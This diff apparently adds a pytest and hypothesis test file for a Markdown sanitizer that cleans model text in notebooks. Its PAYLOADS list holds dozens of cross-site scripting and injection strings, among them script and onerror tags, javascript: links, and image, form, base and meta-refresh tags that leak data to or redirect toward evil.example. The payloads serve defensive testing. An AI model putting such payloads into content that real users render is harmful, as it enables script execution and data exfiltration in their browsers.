@@ -1,0 +1,227 @@
+"""Model text as Markdown holds nothing that acts, however a renderer reads it; what is harmless stays as it was."""
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from qfmagic.notebook.markdown import safe_markdown
+
+ALLOWED_TAGS = {
+    "p",
+    "em",
+    "strong",
+    "code",
+    "pre",
+    "a",
+    "ul",
+    "ol",
+    "li",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "blockquote",
+    "hr",
+    "br",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "s",
+}
+ALLOWED_ATTRIBUTES = {"href", "class", "start", "style", "title"}
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=x>",
+    "<svg/onload=alert(1)>",
+    "</p><iframe srcdoc='<script>x</script>'>",
+    "<iframe src=javascript:alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<?php x ?>",
+    "<!DOCTYPE x>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](\njavascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html,<script>x</script>)",
+    "[x](vbscript:x)",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "[r]\n\n[r]:\n  javascript:alert(1)",
+    "![x](https://evil.example/?leak)",
+    "![x][r]\n\n[r]: https://evil.example/",
+    "![x]\n\n[x]: https://evil.example/",
+    "\\![x](https://evil.example/)",
+    "\\\\![x](https://evil.example/)",
+    "[![x](https://evil.example/)](https://a.example)",
+    "\\<img src=x onerror=alert(1)>",
+    "\\\\<img src=x onerror=alert(1)>",
+    "`<img src=x onerror=alert(1)>",
+    "`` ` <img src=x onerror=alert(1)>",
+    "\\`<img src=x onerror=alert(1)>\\`",
+    "```\n<img src=x onerror=alert(1)>",
+    "``` a`b\n<img src=x onerror=alert(1)>\n```",
+    "~~~\n```\n<img src=x onerror=alert(1)>\n~~~\n<img src=x onerror=1>",
+    "- a\n    ```\n<img src=x onerror=alert(1)>\n    ```",
+    "> ```\n<img src=x onerror=alert(1)>",
+    "    <img src=x onerror=alert(1)>",
+    "<div>\n```\n</div>\n<img src=x onerror=1>\n```",
+    "$$\n```\n$$\n<img src=x onerror=alert(1)>\n```",
+    "<javascript:alert(1)>",
+    "<https://a.example/onmouseover=alert(1)//>",
+    '<https://a"onmouseover=alert(1)>',
+    "<a@b.c><img src=x onerror=1>",
+    "a|b\n-|-\n<img src=x onerror=1>|`|`<img src=x onerror=1>",
+    '[x](https://a.example "<img src=x onerror=1>")',
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "<\timg src=x>",
+    "<a\u2028b onload=1>",
+    "`a`<img src=x onerror=1>`b`",
+    "``<img src=x onerror=1>`",
+    "***<img src=x onerror=1>***",
+    "[x]: <javascript:alert(1)>\n[x]",
+    "[x]\\(javascript:alert(1))",
+    '<math><mi//xlink:href="data:x,<script>1</script>">',
+    "<style>@import 'https://evil.example'</style>",
+    "<form action=https://evil.example><input>",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+]
+
+
+class Judge(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.faults = []
+
+    def handle_starttag(self, tag, attrs):
+        if tag not in ALLOWED_TAGS:
+            self.faults.append(tag)
+        for name, value in attrs:
+            if name not in ALLOWED_ATTRIBUTES or (name == "style" and not (value or "").startswith("text-align:")):
+                self.faults.append(f"{tag} {name}")
+            if name == "href" and not (value or "").lower().startswith(("http://", "https://", "mailto:", "#")):
+                self.faults.append(f"{tag} {name}={value}")
+
+    def handle_comment(self, data):
+        self.faults.append("comment")
+
+    def handle_decl(self, decl):
+        self.faults.append("declaration")
+
+    def handle_pi(self, data):
+        self.faults.append("instruction")
+
+
+RENDERERS = [
+    MarkdownIt("commonmark", {"html": True}),
+    MarkdownIt("gfm-like", {"html": True, "linkify": False}),
+]
+for renderer in RENDERERS:
+    renderer.validateLink = lambda _: True  # JupyterLab's renderer lets javascript: links through
+
+
+def faults(text):
+    found = []
+    for renderer in RENDERERS:
+        judge = Judge()
+        judge.feed(renderer.render(safe_markdown(text)))
+        judge.close()
+        found += judge.faults
+    return found
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize(
+    "around",
+    [
+        "{}",
+        "text {} text",
+        "- item {}\n- b",
+        "> {}",
+        "# {}",
+        "{}\n\n```python\nx < 1\n```",
+        "`code` {} `code`",
+        "a\n\n{}\n\nb",
+        "$x$ {}",
+        "[{}](https://a.example)",
+    ],
+)
+def test_payloads_come_out_dead(payload, around):
+    assert faults(around.format(payload)) == []
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                *PAYLOADS,
+                "`",
+                "``",
+                "```",
+                "~~~",
+                "\n",
+                "\n\n",
+                "    ",
+                "> ",
+                "- ",
+                "\\",
+                "[",
+                "](",
+                "!",
+                "<",
+                "a",
+                "$$",
+                "|",
+                "<https://a.b>",
+            ]
+        ),
+        max_size=8,
+    )
+)
+def test_payloads_put_together_come_out_dead(parts):
+    assert faults("".join(parts)) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "**bold** and *italic*, `code` and `x < y`",
+        "# 标题\n\n- 一\n- 二\n\n1. a\n2. b",
+        "| a | b |\n|---|---|\n| 1 | 2 |",
+        "[link](https://a.example/x?y=1#z) and <https://b.example/> and [mail](mailto:a@b.c)",
+        "1 < 2, a<1, x <= y, a > b, <3",
+        "$a < b$ and $$\\frac{1}{2}$$",
+        "a & b &amp; c",
+    ],
+)
+def test_harmless_text_stays_as_it_was(text):
+    assert safe_markdown(text) == text
+
+
+def test_code_blocks_keep_every_character():
+    code = "#include <stdio.h>\nif (a<b) { vector<int> x; }  // ![x](javascript:1) ~~~ `x`"
+    rendered = RENDERERS[0].render(safe_markdown(f"before\n```c++\n{code}\n```\nafter"))
+    assert "#include &lt;stdio.h&gt;\nif (a&lt;b) { vector&lt;int&gt; x; }  // ![x](javascript:1) ~~~ `x`" in rendered
+    assert 'class="language-c++"' in rendered
+    assert "<p>after</p>" in rendered
+
+
+def test_a_code_span_with_a_tag_reads_as_it_was_written():
+    rendered = RENDERERS[0].render(safe_markdown("use `std::vector<int> *x_y*` here"))
+    assert "<code>std::vector&lt;int&gt; *x_y*</code>" in rendered
+
+
+def test_an_open_fence_ends_with_the_text():
+    assert safe_markdown("```python\nx = 1").rstrip().endswith("x = 1\n```")
